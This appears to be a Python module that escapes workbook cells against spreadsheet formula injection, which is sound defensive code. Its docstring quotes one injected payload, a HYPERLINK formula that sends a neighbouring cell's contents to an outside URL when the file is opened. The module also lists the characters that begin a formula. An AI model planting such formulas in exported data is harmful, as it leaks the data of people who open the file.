"""Cells of every workbook GPMB writes: data, never formulas.

openpyxl stores a string starting with "=" as a formula, so an item name such as
=HYPERLINK("http://…?x="&A2,"Xem ảnh") ran as one when an official opened the export
(review finding 10). Every text cell goes through `put` (or `row` for appended rows):
control characters are removed (core.text.printable) and a text that a spreadsheet
could take for a formula — starting with =, +, -, @, tab or carriage return — is written
as a string cell marked "quote prefix", as Excel does for text typed after an
apostrophe, so it stays text even when the cell is edited."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell

from gpmb.core.text import printable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def put(cell: Any, value: Any) -> Any:
    """Set `cell` (openpyxl, also write-only) to `value` as data; returns the cell."""
    if isinstance(value, str):
        value = printable(value)
        cell.value = value
        if value.startswith(FORMULA_START):
            cell.data_type = "s"
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """`values` ready for sheet.append: risky text as string cells, the rest as is."""
    out: list[Any] = []
    for value in values:
        if isinstance(value, str):
            clean = printable(value)
            value = put(WriteOnlyCell(sheet), clean) if clean.startswith(FORMULA_START) else clean
        out.append(value)
    return out
